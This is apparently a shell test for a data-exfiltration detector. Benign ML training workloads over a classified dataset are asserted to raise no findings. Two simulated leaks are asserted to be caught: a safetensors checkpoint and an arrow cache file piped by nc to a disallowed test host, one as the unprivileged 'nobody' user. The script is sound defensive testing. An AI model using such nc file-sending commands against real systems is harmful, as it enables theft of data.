#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# test_corpus.sh - the benign corpus (tests/corpus/): training jobs as allowed readers raise no finding; their artifacts are still caught leaving.
#
# Each workload (numpy memmap, a DataLoader-style loader over shared memory, Hugging Face
# datasets, webdataset shards, safetensors checkpoints, tensorboardX events, a two-node
# data-parallel pair) runs as the allowed reader of a classified dataset (uid and the venv's
# python in allowed_readers), sending metrics to an allowed_egress host, under an agent of its
# own: no finding at all. Then a checkpoint sent by nc to a host that is not allowed, and an
# arrow cache file read and uploaded by nobody, are exfiltration of the dataset, byte for byte.
set -u
. "$(dirname "$0")/../lib/lib.sh"
. "$TOP/tests/corpus/corpus.sh"
need_root corpus
mount_kernel_fs

STEPS=40
T=$(mktemp -d /var/tmp/dt-corpus.XXXXXX)
PIDS_TO_KILL=""
cleanup() {
	for p in $PIDS_TO_KILL; do kill "$p" 2>/dev/null; done
	[ -n "${AGENT_PID:-}" ] && kill -KILL "$AGENT_PID" 2>/dev/null
	corpus_teardown
	lib_cleanup
	[ -n "${DT_KEEP:-}" ] && echo "kept $T" >&2 || rm -rf "$T"
}
trap cleanup EXIT

if ! corpus_setup "$T"; then
	echo "corpus: setup failed (the venv: tools/venv.sh; the test hosts)" >&2
	echo "RESULT corpus: 0 passed, 1 failed"
	exit 1
fi

# One agent for all (its start takes seconds on a busy machine): each finding is put down to
# the workload whose job process it names or descends from, a visibility_gap (no process) to
# the workload whose run its window overlaps; a pause between runs keeps the windows apart.
# The results the jobs wrote are read only after the agent stopped (a reader of a derived file
# is tainted, and a shell reading through $(...) by the pipe).
A=$T/agent
mkdir -p "$A"
agent_start "$A" "$CORPUS_INV" --flush-ms 200 || exit 1
for w in $CORPUS_WORKLOADS; do
	t0=$(date +%s%3N)
	corpus_run "$w" "$STEPS"
	corpus_wait
	echo "$? $t0 $(date +%s%3N)" >"$T/$w.run"
	sleep 0.6
done

# The same artifacts leaving: a checkpoint sent by nc (root, not an allowed reader) to the
# host outside allowed_egress; an arrow cache file opened and uploaded by nobody.
CORPUS_TAG=-leak
t0=$(date +%s%3N)
corpus_run st_checkpoint 20 --every 10
pids=$CORPUS_PIDS
corpus_run hf_datasets 10
CORPUS_PIDS="$pids $CORPUS_PIDS"
corpus_wait
echo "0 $t0 $(date +%s%3N)" >"$T/leak.run"
CORPUS_TAG=""
CKPT=$T/out/st_checkpoint-leak/ckpt-00020.safetensors
ARROW=$(find "$T/out/hf_datasets-leak" -name 'cache-*.arrow' | head -n 1)
listen "$CORPUS_NS_X" tcp "$CORPUS_EXT" 9801 "$T/recv-ckpt" || exit 1
/usr/bin/nc -w 10 -N "$CORPUS_EXT" 9801 <"$CKPT" &
NC_CKPT=$!
wait $NC_CKPT
listen "$CORPUS_NS_X" tcp "$CORPUS_EXT" 9802 "$T/recv-arrow" || exit 1
setpriv --reuid=65534 --regid=65534 --clear-groups /bin/sh -c \
	'exec /usr/bin/nc -w 10 -N "$1" 9802 <"$2"' sh "$CORPUS_EXT" "$ARROW" &
NC_ARROW=$!
wait $NC_ARROW
agent_stop

# jfield RESULT KEY: a key of a workload's JSON result line.
jfield() {
	$PY -c 'import json, sys; v = json.load(open(sys.argv[1]))[sys.argv[2]]
print(" ".join(map(str, v)) if isinstance(v, list) else v)' "$1" "$2" 2>/dev/null
}

# whose_findings: one line per finding that counts, "WHO kind: title", WHO "-" when none
# of these: a job (or rank) named as its process or one of the parents (the leak run's jobs
# are st_checkpoint-leak and hf_datasets-leak, its senders nc-ckpt and nc-arrow), or for a
# visibility_gap the run its window overlaps. Not counted: agent_tamper by users other than
# the job's (this test's own SIGINT that stops the agent; bpftool listings by other tools on
# a shared machine, which issue #24 item 5 makes informational), printed on stderr instead.
whose_findings() {
	local w
	{
		for w in $CORPUS_WORKLOADS st_checkpoint-leak hf_datasets-leak ddp_pair.1; do
			echo "pid ${w%.1} $(jfield "$T/$w.json" pid)"
		done
		for w in $CORPUS_WORKLOADS leak; do
			echo "run $w $(cut -d' ' -f2,3 "$T/$w.run")"
		done
		echo "pid nc-ckpt $NC_CKPT"
		echo "pid nc-arrow $NC_ARROW"
	} >"$T/owners"
	$PY - "$A/findings.jsonl" "$CORPUS_UID" "$T/owners" <<'EOF'
import json, sys
path, job_uid, owners = sys.argv[1:]
pids, runs = {}, []
for line in open(owners):
    f = line.split()
    if f[0] == "pid" and len(f) == 3:
        pids[f[2]] = f[1]
    elif f[0] == "run" and len(f) == 4:
        runs.append((f[1], int(f[2]), int(f[3])))
for line in open(path):
    r = json.loads(line)
    if r.get("activity_id") != 1:
        continue
    kind = r["finding_info"]["types"][0]
    p = (r.get("evidences") or [{}])[0].get("process") or {}
    if kind == "agent_tamper" and str((p.get("user") or {}).get("uid")) != job_uid:
        print("corpus: not counted: %s" % r["finding_info"]["title"], file=sys.stderr)
        continue
    who, q = "-", p
    while q and who == "-":
        who = pids.get(str(q.get("pid")), "-")
        q = q.get("parent_process")
    if who == "-" and not p:
        s, e = r.get("start_time", r["time"]), r.get("end_time", r["time"])
        for name, t0, t1 in runs:
            if s <= t1 + 400 and e >= t0:
                who = name
    print("%s %s: %s" % (who, kind, r["finding_info"]["title"]))
EOF
}

# ASSERT_NO_FINDINGS TAG WHO...: none of the findings that count is put down to WHO.
ASSERT_NO_FINDINGS() {
	local tag=$1 f
	shift
	[ -s "$T/whose" ] || whose_findings >"$T/whose" 2>"$T/whose.err"
	f=$(grep -E "^($(echo "$@" | tr ' ' '|')) " "$T/whose")
	ASSERT_EQ "$(printf '%s' "$f" | grep -c .)" 0 "$tag: findings: $(echo "$f" | head -n 5)"
}

# ran W: the job and its agent exited 0 and the job took every step.
ran() {
	ASSERT_EQ "$(cut -d' ' -f1 "$T/$1.run")" 0 "$1: job exit status ($(tail -n 3 "$T/$1.err"))"
	ASSERT_EQ "$(jfield "$T/$1.json" steps)" "$STEPS" "$1: steps"
}

# ev_sum PID ACCESS PATH-PREFIX: bytes the agent counted for PID on files below the prefix.
ev_sum() {
	$PY - "$A/events.jsonl" "$@" "$CORPUS_DATASET" <<'EOF'
import json, sys
path, pid, access, prefix, ds = sys.argv[1:]
n = 0
for line in open(path):
    r = json.loads(line)
    u = r.get("unmapped") or {}
    if (str(r["actor"]["process"]["pid"]) == pid and u.get("access") == access and
            u.get("dataset") == ds and r["file"]["path"].startswith(prefix)):
        n += u.get("bytes", 0)
print(n)
EOF
}

# ev_files PID ACCESS PATH-PREFIX: the distinct files of those events.
ev_files() {
	$PY - "$A/events.jsonl" "$@" "$CORPUS_DATASET" <<'EOF'
import json, sys
path, pid, access, prefix, ds = sys.argv[1:]
seen = set()
for line in open(path):
    r = json.loads(line)
    u = r.get("unmapped") or {}
    if (str(r["actor"]["process"]["pid"]) == pid and u.get("access") == access and
            u.get("dataset") == ds and r["file"]["path"].startswith(prefix)):
        seen.add(r["file"]["path"])
print(len(seen))
EOF
}

test_agent_ran() {
	ASSERT_EQ "$AGENT_RC" 0 "agent exit status"
	ASSERT_OCSF_DIR "agent output" "$A"
}

# numpy memmap: the matrix mapped whole, its header read; the statistics saved are followed.
test_np_memmap() {
	local pid
	ran np_memmap
	pid=$(jfield "$T/np_memmap.json" pid)
	ASSERT_EQ "$(ev_sum "$pid" mmap "$T/ds/memmap/features.npy")" \
		"$(stat -c %s "$T/ds/memmap/features.npy")" "features mapped"
	ASSERT_EQ "$(ev_sum "$pid" write "$T/out/np_memmap/feature_mean.npy")" \
		"$(stat -c %s "$T/out/np_memmap/feature_mean.npy")" "derived output followed"
	ASSERT_NO_FINDINGS np_memmap np_memmap
}

# A DataLoader: 2 workers read 16 samples of 4 KiB a batch (STEPS batches and 4 prefetched)
# and pass each batch in a new shared-memory segment that the trainer maps and unlinks.
test_shm_loader() {
	local pid w total=0 maps
	ran shm_loader
	pid=$(jfield "$T/shm_loader.json" pid)
	ASSERT_EQ "$(jfield "$T/shm_loader.json" segments)" "$STEPS" "segments passed"
	for w in $(jfield "$T/shm_loader.json" workers); do
		total=$((total + $(ev_sum "$w" read "$T/ds/samples/")))
	done
	ASSERT_EQ "$total" $(((STEPS + 4) * 16 * 4096)) "bytes the workers read"
	maps=$(ev_files "$pid" mmap /dev/shm/psm_)
	ASSERT_GE "$maps" "$STEPS" "segments the trainer mapped, seen tainted"
	ASSERT_NO_FINDINGS shm_loader shm_loader
}

# Hugging Face datasets: JSON lines into an arrow cache, a map() pass into another cache file.
test_hf_datasets() {
	local pid
	ran hf_datasets
	pid=$(jfield "$T/hf_datasets.json" pid)
	ASSERT_GE "$(ev_sum "$pid" read "$T/ds/text/train.jsonl")" \
		"$(stat -c %s "$T/ds/text/train.jsonl")" "the JSON lines read"
	ASSERT_GE "$(ev_files "$pid" write "$T/out/hf_datasets/hf-cache/")" 2 \
		"arrow cache files followed"
	ASSERT_NO_FINDINGS hf_datasets hf_datasets
}

# webdataset: every tar shard streamed; the resharded output followed.
test_wds_shards() {
	local pid
	ran wds_shards
	pid=$(jfield "$T/wds_shards.json" pid)
	ASSERT_EQ "$(ev_files "$pid" read "$T/ds/shards/")" 4 "shards read"
	ASSERT_GE "$(ev_files "$pid" write "$T/out/wds_shards/")" 4 "shards written, followed"
	ASSERT_NO_FINDINGS wds_shards wds_shards
}

# safetensors: a checkpoint every 10 steps (written to a temporary name, then renamed).
test_st_checkpoint() {
	local pid
	ran st_checkpoint
	pid=$(jfield "$T/st_checkpoint.json" pid)
	ASSERT_EQ "$(jfield "$T/st_checkpoint.json" checkpoints | wc -w)" $((STEPS / 10)) "checkpoints"
	ASSERT_EQ "$(ev_sum "$pid" write "$T/out/st_checkpoint/")" \
		"$(cat "$T"/out/st_checkpoint/ckpt-*.safetensors | wc -c)" "checkpoint bytes followed"
	ASSERT_NO_FINDINGS st_checkpoint st_checkpoint
}

test_tb_events() {
	local pid ev
	ran tb_events
	pid=$(jfield "$T/tb_events.json" pid)
	ev=$(find "$T/out/tb_events/tb" -name 'events.out.tfevents.*' | head -n 1)
	ASSERT_EQ "$(ev_sum "$pid" write "$ev")" "$(stat -c %s "$ev")" "event file followed"
	ASSERT_NO_FINDINGS tb_events tb_events
}

# Two nodes, this one and one in a network namespace, exchange gradients (64 KiB a step)
# inside the allowed CIDR: neither side's sends are exfiltration.
test_ddp_pair() {
	local p0 p1
	ran ddp_pair
	ASSERT_EQ "$(jfield "$T/ddp_pair.1.json" steps)" "$STEPS" "rank 1 steps"
	ASSERT_EQ "$(jfield "$T/ddp_pair.1.json" sent)" "$(jfield "$T/ddp_pair.json" sent)" \
		"both ranks sent"
	p0=$(jfield "$T/ddp_pair.json" pid)
	p1=$(jfield "$T/ddp_pair.1.json" pid)
	ASSERT_GE "$(ev_sum "$p0" mmap "$T/ds/")" 1 "rank 0 read the dataset"
	ASSERT_GE "$(ev_sum "$p1" mmap "$T/ds/")" 1 "rank 1 read the dataset"
	ASSERT_NO_FINDINGS ddp_pair ddp_pair
}

# A stolen checkpoint is a stolen dataset: every byte the host received, and nothing more.
test_checkpoint_sent_away_is_exfiltration() {
	local f=$A/findings.jsonl size
	size=$(stat -c %s "$CKPT")
	ASSERT_EQ "$(stat -c %s "$T/recv-ckpt")" "$size" "bytes received"
	ASSERT_EQ "$($EVQ "$f" last unmapped.bytes --where finding_info.types.0=exfiltration \
		--where evidences.0.process.pid="$NC_CKPT")" "$size" "bytes in the finding"
	ASSERT_EQ "$($EVQ "$f" last resources.0.uid --where finding_info.types.0=exfiltration \
		--where evidences.0.process.pid="$NC_CKPT")" "$CORPUS_DATASET" "dataset"
	ASSERT_EQ "$($EVQ "$f" last evidences.0.dst_endpoint.ip --where \
		finding_info.types.0=exfiltration --where evidences.0.process.pid="$NC_CKPT")" \
		"$CORPUS_EXT" "destination"
}

test_arrow_cache_uploaded_by_nobody_is_exfiltration() {
	local f=$A/findings.jsonl size
	ASSERT_NEQ "$ARROW" "" "a cache file was made"
	size=$(stat -c %s "$ARROW")
	ASSERT_EQ "$(stat -c %s "$T/recv-arrow")" "$size" "bytes received"
	ASSERT_EQ "$($EVQ "$f" last unmapped.bytes --where finding_info.types.0=exfiltration \
		--where evidences.0.process.pid="$NC_ARROW")" "$size" "bytes in the finding"
	ASSERT_EQ "$($EVQ "$f" last resources.0.uid --where finding_info.types.0=exfiltration \
		--where evidences.0.process.pid="$NC_ARROW")" "$CORPUS_DATASET" "dataset"
	ASSERT_EQ "$($EVQ "$f" last evidences.0.process.user.uid --where \
		finding_info.types.0=exfiltration --where evidences.0.process.pid="$NC_ARROW")" 65534 \
		"user"
}

# The jobs that made those artifacts raised nothing there either.
test_leak_run_jobs_raise_nothing() {
	ASSERT_NO_FINDINGS "jobs of the leak run" st_checkpoint-leak hf_datasets-leak leak
}

# Nothing else either: every finding that counts is one of the two leaks.
test_no_other_findings() {
	ASSERT_NO_FINDINGS "no workload's" -
	ASSERT_EQ "$(grep -c '^nc-ckpt ' "$T/whose")" 1 "findings of the checkpoint's sender"
	ASSERT_EQ "$(grep -c '^nc-arrow ' "$T/whose")" 1 "findings of the cache file's sender"
	[ -s "$T/whose.err" ] && sed 's/^/  /' "$T/whose.err" >&2
	return 0
}

run_tests corpus
